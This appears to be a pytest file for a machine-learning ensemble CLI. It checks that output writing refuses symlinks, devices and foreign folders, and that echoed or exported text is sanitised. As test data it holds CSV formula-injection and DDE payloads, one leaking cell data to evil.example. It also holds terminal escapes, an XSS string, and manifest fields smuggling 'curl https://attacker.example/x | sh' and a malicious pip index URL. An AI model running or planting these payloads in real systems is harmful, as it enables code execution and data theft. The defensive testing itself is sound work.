"""What `-o` may write over, what output CSVs hold, and what the CLI echoes from files."""

import json
import os
import shutil
import stat
import subprocess
import sys
import threading

import pandas as pd
import pytest

from engine import Ensemble, load
from engine.cli import main
from engine.testing import make_text_dataset

EVIL_ID = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
LABELS = ["=cmd|' /C calc'!A0", "@SUM(1+1)"]


@pytest.fixture(scope="module")
def workspace(tmp_path_factory):
    root = tmp_path_factory.mktemp("outputs")
    X, y = make_text_dataset(2, n_per_class=30, seed=4)
    labels = [LABELS[c] for c in y]
    train = pd.DataFrame({"id": range(len(X)), "text": X, "target": labels})
    Ensemble({"nb": "tfidf-nb"}, cv=2, random_state=0).fit(train, train["target"]).save(
        root / "model", {"text": "text", "id": "id", "label": "target"})
    test = pd.DataFrame({"id": [EVIL_ID, "-12", "+3", "@me", "plain"], "text": X[:5]})
    test.to_csv(root / "test.csv", index=False)
    return root


def predict(workspace, output, *extra):
    return main(["predict", str(workspace / "model"), str(workspace / "test.csv"), "-o",
                 str(output), *extra])


def test_formula_like_cells_get_an_apostrophe_and_numbers_stay(workspace, tmp_path):
    out = tmp_path / "p.csv"
    assert predict(workspace, out) == 0
    rows = pd.read_csv(out, dtype=str)
    assert rows["id"].tolist() == ["'" + EVIL_ID, "-12", "+3", "'@me", "plain"]
    assert set(rows["label"]) <= {"'" + label for label in LABELS}
    assert not any(cell.startswith(("=", "@")) for cell in rows.to_numpy().ravel())


def test_dash_o_dash_streams_csv_to_stdout_and_messages_to_stderr(workspace, capfd):
    assert predict(workspace, "-") == 0
    out, err = capfd.readouterr()
    assert out.splitlines()[0].startswith("id,label,proba_")
    assert len(out.splitlines()) == 6 and "wrote 5 predictions to -" in err


def test_a_fifo_is_streamed_through_and_stays_a_fifo(workspace, tmp_path):
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    received = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_text()))
    reader.start()
    assert predict(workspace, fifo) == 0
    reader.join(30)
    assert received and len(received[0].splitlines()) == 6
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)


def make_char_device(tmp_path):
    """A real character device: a copy of /dev/null where we may make one, else /dev/null."""
    if os.geteuid() == 0:
        device = tmp_path / "null-device"
        os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 3))
        return device
    return "/dev/null"


def test_a_character_device_is_refused_and_left_as_it_is(workspace, tmp_path, capsys):
    device = make_char_device(tmp_path)
    assert predict(workspace, device) == 2
    err = capsys.readouterr().err
    assert "is a character device; refusing to replace it" in err and err.count("\n") == 1
    assert stat.S_ISCHR(os.lstat(device).st_mode)
    assert not [p for p in tmp_path.iterdir() if ".tmp-" in p.name]


def test_a_symlink_is_refused_and_no_temporary_is_left(workspace, tmp_path, capsys):
    target, link = tmp_path / "real.csv", tmp_path / "link.csv"
    target.write_text("precious\n")
    link.symlink_to(target)
    assert predict(workspace, link) == 2
    assert "is a symbolic link" in capsys.readouterr().err
    assert link.is_symlink() and target.read_text() == "precious\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["link.csv", "real.csv"]


def test_fit_onto_a_symlink_leaves_no_temporary_link(workspace, tmp_path, capsys):
    X, y = make_text_dataset(2, n_per_class=10, seed=5)
    pd.DataFrame({"text": X, "target": y}).to_csv(tmp_path / "train.csv", index=False)
    config = tmp_path / "c.toml"
    config.write_text(f'name = "x"\n[data]\ntrain = "{tmp_path / "train.csv"}"\n'
                      f'[members.nb]\nplugin = "tfidf-nb"\n')
    link = tmp_path / "link"
    link.symlink_to(workspace / "model")
    assert main(["fit", str(config), "-o", str(link)]) == 2
    assert "symbolic link" in capsys.readouterr().err
    assert not [p for p in tmp_path.iterdir() if ".tmp-" in p.name or ".save-" in p.name]
    assert not [p for p in workspace.iterdir() if ".tmp-" in p.name]


def test_outputs_inside_a_model_directory_are_refused(workspace, tmp_path, capsys):
    model = tmp_path / "model"
    shutil.copytree(workspace / "model", model)
    assert predict(workspace, model / "predictions.csv") == 2
    assert "inside the model directory" in capsys.readouterr().err
    assert main(["report", str(model), str(workspace / "test.csv"), "--label", "id", "-o",
                 str(model / "members" / "r.html")]) == 2
    assert load(model).predict(["a text"]).shape == (1,)  # still loadable


def test_an_output_through_a_link_into_a_model_directory_is_refused(workspace, tmp_path, capsys):
    model = tmp_path / "model"
    shutil.copytree(workspace / "model", model)
    (tmp_path / "linkdir").symlink_to(model / "members")
    assert predict(workspace, tmp_path / "linkdir" / "out.csv") == 2
    assert "inside the model directory" in capsys.readouterr().err
    assert load(model).predict(["a text"]).shape == (1,)  # still loadable


def test_unknown_id_column_is_a_one_line_error(workspace, tmp_path, capsys):
    assert predict(workspace, tmp_path / "p.csv", "--id", "nosuchcol") == 2
    err = capsys.readouterr().err
    assert "column 'nosuchcol' not found" in err and err.count("\n") == 1
    assert not (tmp_path / "p.csv").exists()


@pytest.fixture
def hostile(workspace, tmp_path):
    """A copy of the model whose manifest the tests edit (the manifest is not hashed)."""
    shutil.copytree(workspace / "model", tmp_path / "model")
    return tmp_path / "model"


def evaluate_with(model, **member):
    """``ensemble evaluate`` (the real command, so output is shown as a user sees it) on the
    model with its first member's manifest entry changed; it must refuse in one line."""
    manifest = json.loads((model / "manifest.json").read_text())
    manifest["members"][0].update(member)
    (model / "manifest.json").write_text(json.dumps(manifest))
    done = subprocess.run([sys.executable, "-m", "engine.cli", "evaluate", str(model)],
                          capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=300)
    assert done.returncode == 2 and done.stderr.count("\n") == 1, done.stderr
    return done


def test_echoed_manifest_markup_is_shown_as_text(hostile):
    done = evaluate_with(hostile, plugin="nb[link=evil.example]x[blink]")
    assert "nb[link=evil.example]x[blink]" in done.stderr  # as text, not a hyperlink


def test_manifest_text_with_terminal_escapes_is_refused_without_echoing_them(hostile):
    done = evaluate_with(hostile, name="nb\x1b]0;pwned\x07\x1b[2J", version="0\x1b[31m")
    assert "\x1b" not in done.stdout + done.stderr and "\x07" not in done.stderr
    assert "members/0/name" in done.stderr and "\\x1b]0;pwned" in done.stderr  # shown, escaped


def test_invisible_and_bidi_characters_are_echoed_escaped(hostile):
    done = evaluate_with(hostile, plugin="nb\u061c\u00ad\U000e0041\u3164x")
    assert "nb\\u061c\\xad\\U000e0041\\u3164x" in done.stderr
    assert not any(c in done.stderr for c in "\u061c\u00ad\U000e0041\u3164")


def test_a_missing_plugins_package_is_shown_only_if_it_is_a_package_name(hostile, capsys):
    manifest = json.loads((hostile / "manifest.json").read_text())
    manifest["members"][0].update(plugin="no-such-plugin",
                                  package="x --index-url https://attacker.example/simple")
    (hostile / "manifest.json").write_text(json.dumps(manifest))
    assert main(["evaluate", str(hostile)]) == 2
    err = capsys.readouterr().err
    assert "pip install" not in err and "\x1b" not in err
    assert "members/0/package" in err and err.count("\n") == 1
    assert "index-url" not in err and "attacker" not in err  # the lure is not echoed


@pytest.mark.parametrize("member", [
    {"version": "1 ; curl https://attacker.example/x | sh"},
    {"name": {"run": "pip install evil --index-url https://attacker.example/simple"}},
])
def test_schema_errors_name_the_field_without_echoing_a_lure(hostile, capsys, member):
    manifest = json.loads((hostile / "manifest.json").read_text())
    manifest["members"][0].update(member)
    (hostile / "manifest.json").write_text(json.dumps(manifest))
    assert main(["evaluate", str(hostile)]) == 2
    err = capsys.readouterr().err
    assert f"members/0/{next(iter(member))}" in err and err.count("\n") == 1
    assert "attacker" not in err and "curl" not in err and "index-url" not in err


def web_app(folder):
    """A folder of someone else's that happens to hold a manifest.json, as web apps do."""
    (folder / "src").mkdir(parents=True)
    files = {"manifest.json": json.dumps({"name": "My App", "manifest_version": 3,
                                          "version": "1.0", "files": {}}),
             "index.html": "<!doctype html><title>app</title>",
             "src/app.js": "console.log('years of work')"}
    for name, text in files.items():
        (folder / name).write_text(text)
    return files


def assert_intact(folder, files):
    assert sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*")
                  if p.is_file()) == sorted(files)
    assert all((folder / name).read_text() == text for name, text in files.items())
    assert not [p for p in folder.parent.iterdir() if ".tmp-" in p.name]


def test_fit_refuses_a_folder_with_someone_elses_manifest_and_touches_nothing(
        workspace, tmp_path, capsys):
    X, y = make_text_dataset(2, n_per_class=10, seed=5)
    pd.DataFrame({"text": X, "target": y}).to_csv(tmp_path / "train.csv", index=False)
    config = tmp_path / "c.toml"
    config.write_text(f'name = "x"\n[data]\ntrain = "{tmp_path / "train.csv"}"\n'
                      f'[members.nb]\nplugin = "tfidf-nb"\n')
    files = web_app(tmp_path / "webapp")
    assert main(["fit", str(config), "-o", str(tmp_path / "webapp")]) == 2
    err = capsys.readouterr().err
    assert "is not an ensemble-engine model directory" in err and err.count("\n") == 1
    assert_intact(tmp_path / "webapp", files)


@pytest.mark.parametrize("manifest", ["{not json", "[1, 2]", '{"format_version": 1}',
                                      '{"format_version": "1", "members": [], "files": {}}'])
def test_recombine_and_save_refuse_a_folder_whose_manifest_is_not_ours(
        workspace, tmp_path, capsys, manifest):
    files = web_app(tmp_path / "extension")
    (tmp_path / "extension" / "manifest.json").write_text(manifest)
    files["manifest.json"] = manifest
    assert main(["recombine", str(workspace / "model"), "--combiner", "mean", "-o",
                 str(tmp_path / "extension")]) == 2
    assert "is not an ensemble-engine model directory" in capsys.readouterr().err
    with pytest.raises(Exception, match="is not an ensemble-engine model directory"):
        load(workspace / "model").save(tmp_path / "extension")
    assert_intact(tmp_path / "extension", files)


def test_one_of_our_models_and_an_empty_folder_are_still_replaced(workspace, tmp_path):
    shutil.copytree(workspace / "model", tmp_path / "ours")
    (tmp_path / "empty").mkdir()
    for target in ("ours", "empty"):
        assert main(["recombine", str(workspace / "model"), "--combiner", "mean", "-o",
                     str(tmp_path / target)]) == 0
        assert load(tmp_path / target).combiner_.name == "mean"


CR_IDS = ["\r=1+1", "x\r=2+2", "y\n@SUM(1)", "plain"]


def lines_of(raw: str) -> list[str]:
    """Rows as a reader that ends lines at any CR or LF sees them."""
    return raw.replace("\r\n", "\n").replace("\r", "\n").split("\n")


def test_ids_with_a_bare_carriage_return_start_no_formula_row(workspace, tmp_path):
    X, _ = make_text_dataset(2, n_per_class=2, seed=4)
    pd.DataFrame({"id": CR_IDS, "text": X}).to_csv(tmp_path / "cr.csv", index=False,
                                                   quoting=1)  # csv.QUOTE_ALL
    assert main(["predict", str(workspace / "model"), str(tmp_path / "cr.csv"), "-o",
                 str(tmp_path / "p.csv")]) == 0
    raw = (tmp_path / "p.csv").read_bytes().decode()
    assert not [line for line in lines_of(raw) if line.startswith(("=", "@", "+", "-"))]
    assert "x\r'=2+2" in raw


def test_evaluate_markdown_shows_names_and_labels_as_text():
    """What `evaluate --format markdown` prints: member names (from a manifest a stranger
    wrote) and labels are text, never HTML, links or extra cells."""
    from markdown_it import MarkdownIt

    from engine.tables import to_markdown

    table = pd.DataFrame({"accuracy": [0.5, 0.75], "F1 <b>fire</b>": [0.1, 0.2]},
                         index=["<img src=x onerror=alert(1)>", "[nb](https://evil.example) | x"])
    out = to_markdown(table)
    html = MarkdownIt("commonmark").enable("table").render(out)
    assert "<img" not in html and "<a " not in html and "<b>" not in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html and "&lt;b&gt;fire" in html
    assert html.count("<td>") == 6 and html.count("<th>") == 3  # no extra cells
